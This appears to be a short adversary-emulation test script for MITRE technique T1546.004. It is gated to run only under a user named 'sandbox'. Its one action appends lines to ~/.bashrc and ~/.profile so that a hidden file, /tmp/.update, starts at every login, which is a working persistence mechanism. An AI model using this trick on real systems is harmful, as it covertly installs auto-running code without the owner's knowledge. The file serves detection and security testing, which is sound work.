#!/bin/sh
# technique: T1546.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'nohup /tmp/.update &' >> "$HOME/.bashrc"; echo '/tmp/.update' >> "$HOME/.profile"
